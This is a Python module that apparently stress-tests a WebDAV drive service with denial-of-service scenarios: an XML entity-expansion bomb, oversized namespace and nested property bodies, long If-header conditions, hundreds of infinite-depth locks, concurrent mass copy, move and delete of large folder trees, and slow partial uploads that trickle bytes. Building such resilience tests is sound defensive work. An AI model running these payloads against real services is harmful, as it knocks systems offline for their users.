"""Bad neighbours for drives; see neighbours.py."""

import asyncio
import base64
import contextlib
import itertools

from attacker import GONE, Attack, several
from people import Connection

LOCK = (b'<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:shared/></D:lockscope><D:locktype><D:write/></D:locktype>'
        b"<D:owner>o</D:owner></D:lockinfo>")


class Drive:
    """One account's drive, over as many connections as are wanted."""

    def __init__(self, attack: Attack, name: str, password: str):
        self.attack = attack
        login = base64.b64encode(f"{name}@attack.example:{password}".encode()).decode()
        self.signed_in = {"Authorization": f"Basic {login}"}

    @classmethod
    async def of(cls, attack: Attack, name: str):
        owner = await attack.account(name)
        made = await owner.connection.call("POST", "/collab/v1/me/app-passwords", {"name": "d"}, **owner.signed_in)
        return cls(attack, owner.name, made["password"])

    def connection(self) -> Connection:
        return self.attack.connection(self.attack.app)

    async def ask(self, one: Connection, method: str, path: str, body: bytes = b"", **fields: str) -> int:
        """Counts what came of it."""
        try:
            await one.send(method, "/drive" + path, body, **self.signed_in, **fields)
            status, _ = await one.answer()
            self.attack.count(f"{method} answered {status}")
            if status == 429:
                await asyncio.sleep(0.01)
            return status
        except GONE:
            one.close()
            self.attack.count("broken off")
            return 0

    async def tree(self, one: Connection, name: str, copies: int):
        """A folder with sixty times so many folders in it, and then as many copies of it as are wanted."""
        if await self.ask(one, "MKCOL", f"/{name}") != 201:
            return
        await self.ask(one, "MKCOL", f"/{name}-seed")
        for n in range(60):
            await self.ask(one, "MKCOL", f"/{name}-seed/{n}")
        for n in range(copies):
            await self.ask(one, "COPY", f"/{name}-seed", Destination=f"/drive/{name}/{n}")


async def heavy_listings(attack: Attack):
    """Sixteen programs ask what is in large folders, with long questions, long conditions and two hundred locks."""
    drive = await Drive.of(attack, "lister")
    one = drive.connection()
    await drive.tree(one, "big", attack.scaled(60))
    deep = ""
    for _ in range(attack.scaled(60)):
        deep += "/d"
        await drive.ask(one, "MKCOL", deep)
    for _ in range(attack.scaled(240)):
        await drive.ask(one, "LOCK", deep, LOCK, Depth="infinity")
    spaces = "".join(f' xmlns:n{n}="urn:{"u" * 40}{n}"' for n in range(60))
    names = "".join(f"<n{n % 60}:p{n}/>" for n in range(200))
    question = f'<D:propfind xmlns:D="DAV:"{spaces}><D:prop>{names}</D:prop></D:propfind>'.encode()
    long_space = (f'<D:propfind xmlns:D="DAV:" xmlns:p="{"u" * 50_000}"><D:prop>'
                  + "".join(f"<p:n{n}/>" for n in range(200)) + "</D:prop></D:propfind>").encode()
    nested = (f'<D:propertyupdate xmlns:D="DAV:" xmlns:p="{"u" * 28_000}" xmlns:q="v"><D:set><D:prop><q:x>'
              + "<p:a/>" * 4000 + "</q:x></D:prop></D:set></D:propertyupdate>").encode()
    bomb = b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 50_000 + b'">]><a>' + b"&a;" * 1000 + b"</a>"
    condition = "".join(f"</drive{deep}>(Not <a:b> <a:c>)" for _ in range(14_000 // (len(deep) + 30)))
    questions = [
        ("PROPFIND", "/big", question, {"Depth": "1"}), ("PROPFIND", "/big", long_space, {"Depth": "1"}),
        ("PROPFIND", "/", b"", {"Depth": "infinity"}), ("PROPPATCH", "/big", nested, {}),
        ("PROPFIND", deep, b"", {"Depth": "1"}), ("PROPFIND", "/big/0", bomb, {"Depth": "0"}),
        ("PROPPATCH", "/big", b"<a>" * 10_000, {}), ("PUT", "/f", b"x", {"If": condition}),
        ("LOCK", deep, LOCK, {"Depth": "infinity"})]
    attack.ready.set()

    async def work(place):
        one = drive.connection()
        while True:
            method, path, body, fields = questions[place % len(questions)]
            await drive.ask(one, method, path, body, **fields)
            place += 1

    await several(16, work)


async def copied_trees(attack: Attack):
    """Thirty programs of one account copy, move and delete folders of thousands of folders at the same time."""
    drive = await Drive.of(attack, "copier")
    one, numbers = drive.connection(), itertools.count()
    await drive.tree(one, "big", attack.scaled(150))
    await drive.ask(one, "MKCOL", "/deep")
    attack.ready.set()

    async def work(place):
        one = drive.connection()
        while True:
            n = next(numbers)
            if place % 3:
                await drive.ask(one, "COPY", "/big", Destination=f"/drive/c{n}")
                await drive.ask(one, "DELETE", f"/c{n}")
            else:
                await drive.ask(one, "MOVE", "/big", Destination="/drive/deep/big")
                await drive.ask(one, "MOVE", "/deep/big", Destination="/drive/big")

    await several(30, work)


async def halved_files(attack: Attack):
    """Two hundred files to a drive of which a part is sent and then a byte now and then."""
    drive = await Drive.of(attack, "halver")
    begun = 0

    async def upload(place):
        nonlocal begun
        one = drive.connection()
        while True:
            with contextlib.suppress(*GONE):
                await one.open()
                head = f"PUT /drive/h{place} HTTP/1.1\r\nHost: 127.0.0.1:{attack.app}\r\nContent-Length: {1 << 30}\r\n"
                fields = "".join(f"{name}: {value}\r\n" for name, value in drive.signed_in.items())
                one.writer.write((head + fields + "\r\n").encode() + bytes(attack.scaled(1 << 20)))
                await one.writer.drain()
                attack.count("uploads begun")
                for _ in range(600):
                    begun += 1
                    if begun >= attack.scaled(200):
                        attack.ready.set()
                    if one.reader.at_eof() or one.reader._buffer:
                        break
                    one.writer.write(b"x")
                    await one.writer.drain()
                    await asyncio.sleep(0.5)
                status, _ = await one.answer()
                attack.count(f"answered {status}")
            one.close()
            await asyncio.sleep(0.05)

    await several(attack.scaled(200), upload)


ALL = [heavy_listings, copied_trees, halved_files]
